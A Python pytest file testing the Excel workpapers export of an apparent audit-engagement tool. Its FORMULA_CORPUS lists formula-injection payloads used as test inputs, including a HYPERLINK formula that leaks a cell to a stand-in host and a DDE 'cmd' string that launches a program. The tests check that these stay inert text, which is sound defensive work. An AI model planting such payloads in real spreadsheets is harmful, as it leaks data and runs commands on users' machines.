"""The workpapers workbook as an engagement manager opens it in Excel, read back with openpyxl."""

from __future__ import annotations

import dataclasses
import tempfile
from collections.abc import Iterator
from datetime import date, datetime
from pathlib import Path
from shutil import copyfile

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook

from fieldwork.app.cli.main import main
from fieldwork.app.domain.records import ControlInput, DeviationInput, EvidenceFile, SampleItemInput, TestPlan
from fieldwork.app.domain.vocabulary import Framework, Method, ReportType, SampleResult, Selection, TestKind
from fieldwork.app.exports.dataset import ReportData, gather
from fieldwork.app.exports.workbook import write_workbook
from fieldwork.app.exports.xlsx.text import CELL_LIMIT, cell_text, parts
from fieldwork.app.services import controls, deviations, testing
from fieldwork.app.services.engagement import create_engagement
from fieldwork.app.services.history import list_history
from fieldwork.app.services.requirements import list_requirements
from fieldwork.app.services.soa import list_soa
from fieldwork.app.services.status import requirement_statuses
from fieldwork.app.storage.engagement_file import EngagementFile, open_engagement
from fieldwork.app.tasks import Cancelled, Task
from tests.conftest import TEAM, type2_details
from tests.xlsx_reading import SHEETS, export, headers, hyperlink_refs, linked_row, records, text

EXCEPTION_FILL = "00FCE4D6"
GAP_FILL = "00FFC7CE"

FORMULA_CORPUS = [
    "=1+1",
    "+SUM(A1)",
    "-2+3",
    "@cmd",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "#N/A",
    "=",
    "-",
]


@pytest.fixture(scope="module")
def demo_book(demo_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[ReportData, Workbook]]:
    """The demo's workpapers, exported once for the tests that only read them."""
    folder = tmp_path_factory.mktemp("demo-book")
    copyfile(demo_template, folder / "demo.fieldwork")
    db = open_engagement(folder / "demo.fieldwork")
    try:
        yield export(db, folder)
    finally:
        db.close()


def fill(cell: object) -> str:
    return str(cell.fill.fgColor.rgb) if cell.fill.fill_type == "solid" else ""  # type: ignore[attr-defined]


def row_fills(row: dict[str, object]) -> set[str]:
    return {fill(cell) for cell in row.values()}


def test_every_sheet_has_a_frozen_filtered_header_and_fitted_widths(demo_book: tuple[ReportData, Workbook]) -> None:
    _, book = demo_book
    assert book.sheetnames == SHEETS
    for sheet in book.worksheets:
        names = headers(sheet)
        assert all(isinstance(name, str) and name for name in names), sheet.title
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.print_title_rows == "$1:$1", sheet.title
        assert sheet.auto_filter.ref.startswith("A1:"), sheet.title
        assert all(cell.font.b for cell in sheet[1]), f"{sheet.title}: the header is bold"
        widths = [sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]]
        assert all(4 <= width <= 102 for width in widths), (sheet.title, widths)
    controls_sheet = book["Controls"]
    widths = {
        h: controls_sheet.column_dimensions[c.column_letter].width
        for h, c in zip(headers(controls_sheet), controls_sheet[1], strict=True)
    }
    assert widths["Reference"] < 15 and widths["Description"] == 70, "short columns stay narrow, long ones are capped"
    description = records(controls_sheet)[0]["Description"]
    assert len(description.value) > widths["Description"] and description.alignment.wrap_text


def test_the_sheets_list_what_the_engagement_holds(demo: EngagementFile, tmp_path: Path) -> None:
    data, book = export(demo, tmp_path)
    counts = {name: len(records(book[name])) for name in SHEETS}
    tests = testing.list_tests(demo)
    assert counts["Controls"] == len(controls.list_controls(demo))
    assert counts["Tests"] == len(tests)
    assert counts["Samples"] == sum(t.items_total for t in tests) > 0
    assert counts["Exceptions"] == len(deviations.list_deviations(demo)) > 0
    assert counts["SoA"] == len(list_soa(demo)) == 38
    assert counts["Coverage"] == len(requirement_statuses(demo))
    assert counts["Audit trail"] == len(list_history(demo))
    assert counts["Review notes"] == len(data.review_notes) and counts["Long text"] == 0
    controls_sheet = book["Controls"]
    assert headers(controls_sheet)[:10] == [
        "Reference", "Title", "Description", "Owner", "Frequency", "Nature", "Type", "Key control",
        "SOC 2 criteria", "ISO/IEC 42001 requirements",
    ]  # fmt: skip
    first = records(controls_sheet)[0]
    made = controls.list_controls(demo)[0]
    assert first["Reference"].value == made.ref and first["Owner"].value == made.owner
    iso = {r.code for r in list_requirements(demo) if r.framework is Framework.ISO42001}
    assert first["ISO/IEC 42001 requirements"].value == ", ".join(c for c in made.requirements if c in iso)


def test_rows_link_to_their_test_control_and_the_index_to_every_sheet(demo_book: tuple[ReportData, Workbook]) -> None:
    _, book = demo_book
    tests_sheet, controls_sheet = book["Tests"], book["Controls"]
    samples = records(book["Samples"])
    for sample in samples:
        sheet, row = linked_row(book, sample["Test"])
        assert sheet == "Tests" and tests_sheet.cell(row, 1).value == sample["Test"].value
    for test in records(tests_sheet):
        sheet, row = linked_row(book, test["Control"])
        assert sheet == "Controls" and controls_sheet.cell(row, 1).value == test["Control"].value
    for found in records(book["Exceptions"]):
        sheet, row = linked_row(book, found["Test"])
        assert sheet == "Tests" and tests_sheet.cell(row, 1).value == found["Test"].value
        sheet, row = linked_row(book, found["Control"])
        assert sheet == "Controls" and controls_sheet.cell(row, 1).value == found["Control"].value
    evidence = {row["Reference"].value: row["Reference"].row for row in records(book["Evidence"])}
    referenced = [s for s in samples if s["Evidence"].value]
    assert referenced, "the demo's evidence supports sample items"
    for sample in referenced:
        first = sample["Evidence"].value.split(", ")[0]
        assert linked_row(book, sample["Evidence"]) == ("Evidence", evidence[first])
    index_links = {linked_row(book, row["Item"])[0] for row in records(book["Index"]) if row["Item"].hyperlink}
    assert index_links == set(SHEETS) - {"Index"}
    link = samples[0]["Test"]
    assert link.font.color.rgb == "000563C1" and link.font.u == "single", "a link looks like one"


def test_one_link_spans_the_rows_that_go_to_the_same_place(demo: EngagementFile, tmp_path: Path) -> None:
    """A test's sample items sit together and share one link over their range, as when Excel links a range."""
    _, book = export(demo, tmp_path)
    rows_of_test: dict[str, list[int]] = {}
    for sample in records(book["Samples"]):
        rows_of_test.setdefault(sample["Test"].value, []).append(sample["Test"].row)
    expected = {f"A{rows[0]}:A{rows[-1]}" if len(rows) > 1 else f"A{rows[0]}" for rows in rows_of_test.values()}
    in_column_a = {ref for ref in hyperlink_refs(tmp_path / "workpapers.xlsx", "Samples") if ref.startswith("A")}
    assert in_column_a == expected and len(expected) < len(records(book["Samples"]))


def test_dates_and_numbers_are_real_values(demo_book: tuple[ReportData, Workbook]) -> None:
    data, book = demo_book
    sample = records(book["Samples"])[0]
    assert isinstance(sample["Date"].value, datetime) and sample["Date"].number_format == "yyyy-mm-dd"
    assert sample["Date"].value.date() == data.sample_items[0].item_date
    assert isinstance(sample["Item"].value, int)
    test = next(t for t in records(book["Tests"]) if t["Sample size"].value)
    assert isinstance(test["Sample size"].value, int) and isinstance(test["Population size"].value, int)
    entry = records(book["Audit trail"])[0]
    assert isinstance(entry["Time (UTC)"].value, datetime) and entry["Entry"].value == 1
    index = {row["Item"].value: row["Value"] for row in records(book["Index"])}
    assert index["Period start"].value == datetime(2025, 10, 1) and index["Period start"].is_date
    assert isinstance(index["Workbook generated (UTC)"].value, datetime)
    assert index["Controls"].value == data.counts["controls"]


def test_exceptions_are_highlighted(demo_book: tuple[ReportData, Workbook]) -> None:
    _, book = demo_book
    samples = records(book["Samples"])
    deviations = [s for s in samples if s["Result"].value == SampleResult.DEVIATION.label]
    assert deviations and all(row_fills(s) == {EXCEPTION_FILL} for s in deviations)
    clean = [s for s in samples if s["Result"].value != SampleResult.DEVIATION.label]
    assert all(row_fills(s) == {""} for s in clean)
    assert all(row_fills(e) == {EXCEPTION_FILL} for e in records(book["Exceptions"]))
    tests = records(book["Tests"])
    assert {t["Status"].value for t in tests if EXCEPTION_FILL in row_fills(t)} == {"Exceptions"}
    found = next(e for e in records(book["Exceptions"]))
    assert found["Management response"].value and found["SOC 2 criteria affected"].value


def test_gaps_are_highlighted(engagement: EngagementFile, tmp_path: Path) -> None:
    controls.create_control(engagement, ControlInput("Quarterly access review"), ["CC6.1", "A.9.2"])
    _, book = export(engagement, tmp_path)
    coverage = {row["Requirement"].value: row for row in records(book["Coverage"])}
    assert coverage["CC6.1"]["Gap (no control)"].value == "No" and row_fills(coverage["CC6.1"]) == {""}
    assert coverage["CC6.1"]["Controls"].value == "C-001"
    assert coverage["CC6.2"]["Gap (no control)"].value == "Yes" and row_fills(coverage["CC6.2"]) == {GAP_FILL}
    soa = {row["Annex A control"].value: row for row in records(book["SoA"])}
    assert row_fills(soa["A.9.2"]) == {""} and row_fills(soa["A.2.2"]) == {GAP_FILL}
    index = {row["Item"].value: row["Value"] for row in records(book["Index"])}
    gaps = sum(row["Gap (no control)"].value == "Yes" for row in coverage.values())
    assert (
        index["Requirements without a control (gaps)"].value == gaps
        and fill(index["Requirements without a control (gaps)"]) == GAP_FILL
    )


def _all_cells(book: Workbook) -> Iterator[object]:
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def test_text_typed_in_the_app_never_becomes_a_formula(engagement: EngagementFile, tmp_path: Path) -> None:
    typed = []
    for number, value in enumerate(FORMULA_CORPUS):
        made = controls.create_control(engagement, ControlInput(f"{value}", description=value, owner=value), ["CC6.1"])
        plan = TestPlan(TestKind.OPERATING, value, (Method.INSPECTION,), value, 10, 1, Selection.RANDOM, number)
        test = testing.add_test(engagement, made.ref, plan)
        item = SampleItemInput(f"ITEM{value}", date(2026, 3, 1), SampleResult.DEVIATION, "x", value)
        testing.add_sample_items(engagement, test.id, [item])
        deviations.add_deviation(engagement, test.id, DeviationInput(value, value, value, value))
        typed += [made.title, made.description, test.procedure]
    _, book = export(engagement, tmp_path)
    cells = list(_all_cells(book))
    assert not [c for c in cells if c.data_type == "f"], "no cell is a formula"  # type: ignore[attr-defined]
    found = {c.value for c in cells}  # type: ignore[attr-defined]
    assert set(typed) <= found, "every value reads back unchanged"
    for sheet in ("Controls", "Tests", "Samples", "Exceptions"):
        for row in records(book[sheet]):
            for cell in row.values():
                if isinstance(cell.value, str) and cell.value[:1] in "=+-@#\t\r":
                    assert cell.data_type == "s" and cell.quotePrefix, (sheet, cell.coordinate, cell.value)


def test_any_text_reads_back_exactly_whatever_it_holds(demo: EngagementFile, tmp_path: Path) -> None:
    """Past the services' trimming: leading tabs and carriage returns, control characters, escape lookalikes."""
    corpus = [*FORMULA_CORPUS, "line\r\nbreak", "bell\x07and\x0bvtab", "literal _x000D_ stays", "  spaced  "]
    data = gather(demo)
    renamed = tuple(dataclasses.replace(c, title=value) for c, value in zip(data.controls, corpus, strict=False))
    _, book = export(demo, tmp_path, dataclasses.replace(data, controls=renamed + data.controls[len(corpus) :]))
    titles = [row["Title"] for row in records(book["Controls"])][: len(corpus)]
    assert [text(cell) for cell in titles] == corpus
    assert all(cell.data_type == "s" for cell in titles)
    plain = [value for value in corpus if value.isprintable() and "_x" not in value]
    assert [c.value for c in titles if c.value in plain] == plain, "ordinary text is stored as it is"


def test_text_longer_than_a_cell_continues_on_the_long_text_sheet(engagement: EngagementFile, tmp_path: Path) -> None:
    paragraph = "The reviewer reads all of this. 🙂 " * 2_000 + "=END"
    long_text = "=" + paragraph * 2  # over two cells' worth, starting like a formula
    made = controls.create_control(engagement, ControlInput("Long description", description=long_text))
    _, book = export(engagement, tmp_path)
    cell = records(book["Controls"])[0]["Description"]
    assert cell.value.startswith(long_text[:1000]) and "'Long text'" in cell.value and cell.quotePrefix
    sheet, first = linked_row(book, cell)
    assert sheet == "Long text"
    pieces = [
        row
        for row in records(book["Long text"])
        if row["Cell"].value == cell.coordinate and row["Sheet"].value == "Controls"
    ]
    assert pieces[0]["Text"].row == first and [p["Part"].value for p in pieces] == list(range(1, len(pieces) + 1))
    assert "".join(p["Text"].value for p in pieces) == made.description, "joined, the parts are the whole text"
    assert linked_row(book, pieces[0]["Cell"]) == ("Controls", cell.row)
    trail = [row for row in records(book["Long text"]) if row["Sheet"].value == "Audit trail"]
    assert trail, "the history entry holding the description is continued too"
    for found in _all_cells(book):
        value = found.value  # type: ignore[attr-defined]
        if isinstance(value, str):
            assert len(value.encode("utf-16-le")) // 2 <= CELL_LIMIT


@pytest.mark.parametrize("value", ["🙂" * 40_000, "\x01" * 10_000 + "end", "_x0041_" * 6_000])
def test_a_text_of_wide_or_escaped_characters_is_cut_into_parts_that_fit(value: str) -> None:
    """Excel counts UTF-16 units, and an escaped character takes seven: parts are measured as stored."""
    pieces = parts(value)
    assert "".join(pieces) == value and len(pieces) > 1
    assert all(len(cell_text(piece).encode("utf-16-le")) // 2 <= CELL_LIMIT for piece in pieces)


def test_evidence_is_indexed_and_referenced_from_what_it_supports(demo: EngagementFile, tmp_path: Path) -> None:
    data = gather(demo)
    test = next(t for t in data.tests if t.items_total >= 3)
    files = (
        EvidenceFile(1, "E-001", "=access review.xlsx", 2048, "application/vnd.ms-excel", "ab" * 32,
                     date(2026, 4, 2), "IT Ops", "PBC-004", "Dana Reyes", "2026-04-02T09:15:00+00:00",
                     (test.control_ref, test.ref, f"{test.ref} #3")),
        EvidenceFile(2, "E-002", "tickets.csv", 10, "text/csv", "cd" * 32, None, "", None, "Dana Reyes",
                     "2026-04-03T10:00:00+00:00", (f"{test.ref} #3",)),
    )  # fmt: skip
    _, book = export(demo, tmp_path, dataclasses.replace(data, evidence=files))
    evidence = records(book["Evidence"])
    assert [row["SHA-256"].value for row in evidence] == ["ab" * 32, "cd" * 32]
    assert evidence[0]["File name"].value == "=access review.xlsx" and evidence[0]["File name"].data_type == "s"
    assert evidence[0]["Size (bytes)"].value == 2048 and evidence[0]["Received"].value == datetime(2026, 4, 2)
    assert evidence[0]["Attached (UTC)"].value == datetime(2026, 4, 2, 9, 15)
    sample = next(s for s in records(book["Samples"]) if s["Test"].value == test.ref and s["Item"].value == 3)
    assert sample["Evidence"].value == "E-001, E-002" and linked_row(book, sample["Evidence"]) == ("Evidence", 2)
    tested = next(t for t in records(book["Tests"]) if t["Reference"].value == test.ref)
    assert tested["Evidence"].value == "E-001"
    index = {row["Item"].value: row["Value"].value for row in records(book["Index"])}
    assert index["Evidence files"] == 2


def test_the_index_counts_review_notes_and_sign_offs(demo_book: tuple[ReportData, Workbook]) -> None:
    data, book = demo_book
    index = {row["Item"].value: row["Value"].value for row in records(book["Index"])}
    assert index["Service organization"] == data.details.client
    states = [state for found in data.signoffs.values() for state in found.values()]
    assert index["Open review notes"] == sum(note.open for note in data.review_notes)
    assert index["Items changed after review"] == sum(state.stale for state in states)
    assert index["Items prepared and reviewed"] == f"{sum(s.complete for s in states)} of {len(states)}"
    assert index["Exceptions (deviations)"] == data.counts["deviations"]
    notes = book["Review notes"]
    assert {"Item key", "Note text", "Response"} <= set(headers(notes))
    assert notes.auto_filter.ref.endswith(str(len(data.review_notes) + 1 + 300)), "the filter covers rows to add"


def test_a_type1_engagement_shows_its_date_and_no_operating_results(tmp_path: Path) -> None:
    details = type2_details(report_type=ReportType.TYPE1, as_of_date=date(2026, 6, 30))
    db, _ = create_engagement(tmp_path / "type1.fieldwork", details, TEAM)
    try:
        controls.create_control(db, ControlInput("Access review"), ["CC6.1"])
        _, book = export(db, tmp_path)
    finally:
        db.close()
    index = {row["Item"].value: row["Value"].value for row in records(book["Index"])}
    assert index["As of"] == datetime(2026, 6, 30) and "Period start" not in index
    control = records(book["Controls"])[0]
    assert control["Operating effectiveness"].value == "Not applicable (Type 1)"
    assert control["Design result"].value == "Not tested"


def _temporaries(folder: Path) -> list[Path]:
    return [p for p in folder.iterdir() if p.name.startswith(("openpyxl", ".workpapers"))]


@pytest.mark.parametrize("where", ["Index", "Audit trail", "Long text"])
def test_cancel_leaves_the_old_file_and_no_temporary_file(
    demo: EngagementFile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str
) -> None:
    """Cancelled in the first sheet, in the middle of one (its second report), and in the last, before saving."""
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))  # where openpyxl keeps its per-sheet files
    target = tmp_path / "workpapers.xlsx"
    target.write_bytes(b"the previous workpapers")
    seen: list[str] = []

    def on_progress(done: int, total: int, label: str) -> None:
        seen.append(label)
        if seen.count(where) == (2 if where == "Audit trail" else 1):
            task.cancel()

    task = Task(on_progress)
    with pytest.raises(Cancelled):
        write_workbook(gather(demo), target, task)
    assert target.read_bytes() == b"the previous workpapers"
    assert _temporaries(tmp_path) == [] and list(scratch.iterdir()) == []


def test_progress_covers_every_sheet_and_ends_complete(demo: EngagementFile, tmp_path: Path) -> None:
    seen: list[tuple[int, int, str]] = []
    write_workbook(gather(demo), tmp_path / "w.xlsx", Task(lambda d, t, label: seen.append((d, t, label))))
    labels = [label for _, _, label in seen]
    assert set(SHEETS) <= set(labels) and labels[-1] == "Saving"
    done = [d for d, _, _ in seen]
    assert done == sorted(done) and seen[-1][0] == seen[-1][1]
    assert _temporaries(tmp_path) == []


def test_cli_exports_the_workbook_and_the_report_in_one_call(
    demo: EngagementFile, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    xlsx, pdf = tmp_path / "out.xlsx", tmp_path / "out.pdf"
    assert main(["export", str(demo.path), "--xlsx", str(xlsx), "--pdf", str(pdf)]) == 0
    said = capsys.readouterr().out
    assert "Wrote the workpapers" in said and "Wrote the draft report" in said
    assert pdf.read_bytes().startswith(b"%PDF")
    written = load_workbook(xlsx)
    assert written.sheetnames == SHEETS
    assert len(records(written["Samples"])) == len(gather(demo).sample_items)


def test_cli_export_to_a_missing_folder_says_so(
    demo: EngagementFile, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", str(demo.path), "--xlsx", str(tmp_path / "nowhere" / "out.xlsx")]) != 0
    assert "does not exist" in capsys.readouterr().err
